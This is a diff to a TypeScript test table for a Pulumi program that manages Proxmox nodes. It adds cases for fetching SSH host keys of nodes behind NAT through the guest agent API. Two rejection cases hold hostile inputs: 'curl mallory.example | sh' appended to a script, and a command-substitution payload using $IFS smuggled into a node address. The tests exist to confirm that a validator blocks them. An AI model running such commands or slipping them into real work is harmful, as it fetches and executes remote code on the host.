@@ -46,6 +46,7 @@ const formerScript = readFileSync(
 	new URL("../../../fixtures/former-scripts/agent-host-key.sh", import.meta.url),
 	"utf8",
 );
+const currentScript = readFileSync(new URL("../../../../src/rke2/scripts/host-key.sh", import.meta.url), "utf8");
 const hostKey = (script: string, ignoreChanges: string[]): Given => ({
 	type: "command:local:Command",
 	name: "worker-1-host-key",
@@ -56,6 +57,18 @@ const hostKey = (script: string, ignoreChanges: string[]): Given => ({
 		stdin: `${script}pulumi@pve!lab=1\n`,
 	},
 	ignoreChanges,
+});
+const agentOf = (proxmox: string) =>
+	`https://${proxmox}/api2/json/nodes/pve1/qemu/101/agent/file-read?file=%2Fetc%2Fssh%2Fssh_host_ed25519_key.pub`;
+const hostKeyAt = (address: string, source = ""): Given => ({
+	type: "command:local:Command",
+	name: "worker-1-host-key",
+	props: {
+		addPreviousOutputInEnv: false,
+		create: `bash -s -- worker-1 ${address} 600${source && ` '${source}'`}`,
+		logging: "none",
+		stdin: currentScript,
+	},
 });
 const firewall = (added: Record<string, unknown>): Given => ({
 	type: "proxmoxve:firewall/optionsLegacy:OptionsLegacy",
@@ -149,6 +162,19 @@ export const programCases: CaseTable = {
 			"a command on a node of another name": command({}),
 			"a connection that is unknown at preview": command({ connection: unknown }),
 			"a host key that an earlier version of the program has learnt": hostKey(formerScript, ["create", "stdin"]),
+			"the host key of a node behind NAT": hostKeyAt("nat.lab.internal:2204"),
+			"a known host key of a node behind NAT": hostKeyAt("192.168.7.4:2204", connection.hostKey),
+			"the host key of a node behind NAT from the guest agent": hostKeyAt(
+				"nat.lab.internal:2204",
+				agentOf("10.1.2.3:8006"),
+			),
+			"the host key of a node behind NAT from a Proxmox with a name": hostKeyAt(
+				"w1.vpn.internal",
+				agentOf("pve.lab.internal:8006"),
+			),
+			"a command on a node at a name and a port": command({
+				connection: { ...connection, host: "nat.lab.internal", port: 2204 },
+			}),
 			"inputs that the plugin of Proxmox adds": firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: true }),
 			"a provider of the engine": {
 				type: "pulumi:providers:command",
@@ -198,6 +224,10 @@ export const programCases: CaseTable = {
 			"a script of an earlier version with one more line": [
 				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin"]),
 				`worker-1-host-key has another value in stdin > lines > 0 than ${known}; allowed is  or -----BEGIN OPENSSH PRIVATE KEY----- or -----END OPENSSH PRIVATE KEY----- or <name> <address> <number> <hostkey> or <name> <name> 22 <hostkey> or <name> <name> <number> <hostkey> or <secret>.`,
+			],
+			"a command in the address of a node": [
+				hostKeyAt("$(curl$IFS$9mallory.example|sh)"),
+				`worker-1-host-key has another value in create than ${known}; allowed is bash -s -- <name> <hostport> <number> '<hostkey>' or bash -s -- <name> <hostport> <number> 'https://<name>/api2/json/nodes/<name>/qemu/<number>/agent/file-read?file=%2Fetc%2... or bash -s -- <name> <hostport> <number> 'https://<name>:8006/api2/json/nodes/<name>/qemu/<number>/agent/file-read?file=%2F... or bash -s -- <name> <hostport> <number>.`,
 			],
 			"another value than the plugin adds": [
 				firewall({ logLevelIn: "nolog", logLevelOut: "nolog", radv: false }),
